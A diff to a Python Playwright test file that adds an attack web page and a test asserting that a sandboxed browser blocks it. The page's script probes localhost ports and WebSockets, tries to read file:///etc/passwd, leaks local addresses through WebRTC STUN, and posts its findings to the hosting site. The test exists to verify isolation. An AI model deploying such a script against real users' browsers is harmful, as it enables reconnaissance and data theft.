@@ -4,11 +4,13 @@ from __future__ import annotations
 
 import base64
 import json
+import socket
 import threading
 from collections.abc import Iterator
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import Any
+from urllib.parse import quote
 
 import pytest
 from playwright.sync_api import Browser, Page, expect, sync_playwright
@@ -84,6 +86,8 @@ class TriedSite:
                     self._answer(200, b"<title>Inside</title>inside")
                 elif self.path == "/file":
                     self._answer(200, b"the file", ("Content-Disposition", "attachment; filename=given.txt"))
+                elif self.path.startswith("/attack"):
+                    self._answer(200, ATTACK.encode())
                 elif self.path == "/other":
                     self._answer(200, b"<title>Other</title>other")
                 else:
@@ -369,7 +373,55 @@ def session_of(database: Database, number: int) -> CaptureSession:
         return found
 
 
-def test_nobody_else_sees_the_browser_and_pages_reach_nothing_of_ours(
+ATTACK = """<!doctype html><title>Attack</title><script>
+const say = (name, value) => fetch('/note', {method: 'POST', body: JSON.stringify([Date.now(), 1, name, value])});
+const [ports, stun] = JSON.parse(decodeURIComponent(location.search.slice(1)));
+(async () => {
+  const read = [];
+  for (const port of ports) {
+    try { read.push(await (await fetch(`http://127.0.0.1:${port}/status`)).text()); } catch { /* refused */ }
+    await new Promise(done => {
+      const socket = new WebSocket(`ws://127.0.0.1:${port}/`);
+      socket.onopen = () => { read.push('a WebSocket'); done(); };
+      socket.onerror = done;
+    });
+  }
+  try { read.push(await (await fetch('file:///etc/passwd')).text()); } catch { /* refused */ }
+  const peer = new RTCPeerConnection({iceServers: [{urls: `stun:127.0.0.1:${stun}`}]});
+  peer.createDataChannel('x');
+  await peer.setLocalDescription(await peer.createOffer());
+  const gathered = new Promise(done => {
+    peer.onicegatheringstatechange = () => { if (peer.iceGatheringState === 'complete') done(); };
+  });
+  await Promise.race([gathered, new Promise(done => setTimeout(done, 5000))]);
+  const found = (peer.localDescription.sdp.match(/candidate:.*/g) || []).filter(each => each.includes(' udp '));
+  say('attacked', [read.filter(text => text && !text.includes('refused')), found]);
+})();
+</script>"""
+
+
+def test_a_page_reaches_nothing_of_ours(chromium: Browser, admin: RunningSite, tried: TriedSite, home: Path) -> None:
+    person, number = opened(chromium, admin, tried)
+    ports = sorted({int(mark.name.split("_")[1]) for mark in (home / "run" / "listeners").iterdir()})
+    assert len(ports) >= 3, "main port, control port and the session's own"
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stun:
+        stun.bind(("127.0.0.1", 0))
+        stun.setblocking(False)
+        given = quote(json.dumps([ports, stun.getsockname()[1]]))
+        person.page.fill("#address", f"{tried.url('/attack')}?{given}")
+        person.page.get_by_role("button", name="Open", exact=True).click()
+        until(lambda: tried.last("attacked") is not None or person.page.wait_for_timeout(50), what="the end", within=60)
+        assert tried.last("attacked") == [[], []]
+        with pytest.raises(BlockingIOError):
+            stun.recv(100)
+    log = (home / "collections" / "hand" / "sessions" / f"manual-{number}" / "crawl.log").read_text()
+    asked = [line.split() for line in log.splitlines() if any(f":{port}/" in line for port in ports)]
+    assert len(asked) >= len(ports)
+    assert {int(each[1]) for each in asked} <= {-5001, -5002, -7, 0, -2, -6, -50, -5000}, asked
+    person.page.context.close()
+
+
+def test_nobody_else_sees_the_browser(
     chromium: Browser, admin: RunningSite, database: Database, tried: TriedSite
 ) -> None:
     person, number = opened(chromium, admin, tried)
